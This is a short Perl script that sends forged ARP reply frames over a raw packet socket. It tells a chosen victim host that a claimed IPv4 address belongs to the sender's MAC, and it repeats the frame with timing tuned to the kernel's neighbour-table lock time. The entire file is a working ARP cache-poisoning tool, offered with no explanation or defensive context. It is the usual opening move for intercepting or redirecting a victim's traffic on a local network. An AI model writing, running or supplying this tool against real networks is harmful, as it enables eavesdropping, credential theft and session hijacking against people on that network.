# Sends frames that claim addresses of others. Arguments: interface, its MAC, the MAC and IPv4 address of a victim,
# the IPv4 address to claim, the MAC to send from.
use Socket;
my ($interface, $own, $victimMac, $victim, $claimed, $from) = @ARGV;
my ($bytes, $mac, $target) = (sub { pack 'H12', $_[0] =~ s/://gr }, 0, 0);
open my $index, '<', "/sys/class/net/$interface/ifindex" or die;
my $address = pack 'S n i S C C a8', 17, 0x0806, int(<$index>), 1, 0, 6, $bytes->($victimMac);
socket my $raw, 17, 3, 0x0608 or exit 1; # AF_PACKET, SOCK_RAW, ETH_P_ARP in network order
my $reply = pack 'n n C C n', 1, 0x0800, 6, 4, 2;
my $arp = $reply . $bytes->($own) . inet_aton($claimed) . $bytes->($victimMac) . inet_aton($victim);
my $frame = $bytes->($victimMac) . $bytes->($from) . "\x08\x06" . $arp;
# An entry of the neighbour table is not changed for a second after its last update (arp(7), locktime).
for (1 .. 5) {
    send $raw, $frame, 0, $address or exit 1;
    select undef, undef, undef, 0.4;
}
